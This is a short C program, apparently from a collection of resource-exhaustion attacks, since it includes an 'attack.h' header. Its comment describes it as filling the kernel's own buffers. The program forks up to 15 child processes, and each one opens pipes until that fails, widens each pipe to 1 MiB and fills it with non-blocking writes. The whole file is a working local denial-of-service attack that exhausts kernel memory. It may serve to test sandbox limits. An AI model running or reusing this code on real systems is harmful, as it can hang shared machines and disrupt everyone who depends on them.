/* The kernel's own buffers: pipes as wide as they get, all full, in every child. */
#include "attack.h"
int main(void) {
    static char block[1 << 16];
    for (int n = 0; n < 15; n++)
        if (fork() == 0) break;
    for (int both[2]; pipe(both) == 0;) {
        fcntl(both[1], F_SETPIPE_SZ, 1 << 20);
        fcntl(both[1], F_SETFL, O_NONBLOCK);
        while (write(both[1], block, sizeof block) > 0) continue;
    }
    sleep(1);
    return 0;
}
